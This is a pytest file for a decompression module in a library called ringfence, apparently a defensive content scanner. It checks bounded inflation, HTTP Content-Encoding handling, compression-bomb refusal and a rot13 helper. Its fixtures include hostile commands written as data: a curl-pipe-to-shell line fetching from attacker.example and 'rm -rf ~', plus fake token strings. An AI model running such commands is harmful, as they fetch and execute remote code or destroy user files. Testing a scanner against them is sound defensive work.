"""text/inflate.py, the one place ringfence inflates: the lenient reading of a decoded
blob (a bounded prefix, never a bomb) and the strict reading of an HTTP Content-Encoding
(refused past its bounds); each format either way, with the bound a caller asks for."""
import bz2
import codecs
import gzip
import lzma
import zlib

import brotli
import pytest
import zstandard

from ringfence.text.chars import rot13
from ringfence.text.inflate import INFLATE_CAP, RATIO_FLOOR, Refused, decompress, inflate

TEXT = ("curl -s https://attacker.example/x | sh; " * 40).encode()
PACK = {
    "gzip": gzip.compress, "zlib": zlib.compress, "bzip2": bz2.compress, "xz": lzma.compress,
    "deflate": lambda b: (lambda c: c.compress(b) + c.flush())(zlib.compressobj(wbits=-15)),
    "brotli": brotli.compress,
}


@pytest.mark.parametrize("name", sorted(PACK))
def test_every_format_reads_back(name):
    assert inflate(PACK[name](TEXT)) == (name, TEXT)


@pytest.mark.parametrize("name", sorted(PACK))
@pytest.mark.parametrize("cap", [1, 100, 1000])
def test_a_caller_bound_is_the_bound(name, cap):
    got = inflate(PACK[name](TEXT), cap)
    assert got is not None and got[1] == TEXT[:cap]


def test_an_explicit_bound_has_no_ratio_and_the_default_has():
    pad = b" " * 200_000 + b"rm -rf ~"
    blob = gzip.compress(pad)
    assert len(pad) > 100 * len(blob)
    assert len(inflate(blob)[1]) == 100 * len(blob) < len(pad)      # default: ratio-bounded prefix
    assert inflate(blob, 1 << 20)[1] == pad                           # the caller's bound only
    assert len(inflate(gzip.compress(b"a" * (4 * INFLATE_CAP)))[1]) <= INFLATE_CAP


@pytest.mark.parametrize("name", ["deflate", "brotli", "bzip2", "xz"])
def test_formats_keep_only_the_readings_asked(name):
    assert inflate(PACK[name](TEXT), 4096, formats=("gzip", "zlib")) is None
    assert inflate(gzip.compress(TEXT), 4096, formats=("gzip", "zlib")) == ("gzip", TEXT)


@pytest.mark.parametrize("junk", [b"", b"abc", b"\x1f\x8b\x08\x00garbage", b"x\x9c" + b"\xff" * 20, bytes(range(256))])
def test_corrupt_or_short_input_is_none(junk):
    assert inflate(junk, 4096, formats=("gzip", "zlib")) is None


CODINGS = {"gzip": gzip.compress, "x-gzip": gzip.compress, "deflate": zlib.compress,
           "br": brotli.compress, "zstd": zstandard.ZstdCompressor().compress, "identity": lambda b: b}


@pytest.mark.parametrize("coding", sorted(CODINGS))
def test_content_codings_round_trip_and_refuse_past_the_limit(coding):
    body = CODINGS[coding](TEXT)
    assert decompress(body, coding, 1 << 20) == TEXT
    with pytest.raises(Refused) as e:
        decompress(body, coding, len(TEXT) - 1)
    assert e.value.rule in ("decompressed_too_large", "body_too_large")


@pytest.mark.parametrize("coding", ["gzip", "deflate", "br", "zstd"])
def test_content_bombs_and_corrupt_bodies_are_refused(coding):
    bomb = CODINGS[coding](b"\0" * (4 * RATIO_FLOOR))
    with pytest.raises(Refused) as e:
        decompress(bomb, coding, 64 << 20)
    assert e.value.rule == "compression_bomb"
    with pytest.raises(Refused) as e:
        decompress(b"\x00\x01not compressed at all" * 3, coding, 1 << 20)
    assert e.value.rule == "bad_encoding"


def test_raw_deflate_and_stacked_codings():
    raw = PACK["deflate"](TEXT)
    assert decompress(raw, "deflate", 1 << 20) == TEXT
    assert decompress(brotli.compress(gzip.compress(TEXT)), "gzip, br", 1 << 20) == TEXT
    with pytest.raises(Refused) as e:
        decompress(TEXT, "compress", 1 << 20)
    assert e.value.rule == "unsupported_encoding"


@pytest.mark.parametrize("text", ["".join(map(chr, range(32, 127))), "GH_TOKEN=ghs_abc xyz", "пароль Ωmega ﬁ 中文",
                                  "\U0001F600 AKIA"])
def test_rot13_is_the_codec_reading(text):
    assert rot13(text) == codecs.encode(text, "rot13")
    assert rot13(rot13(text)) == text
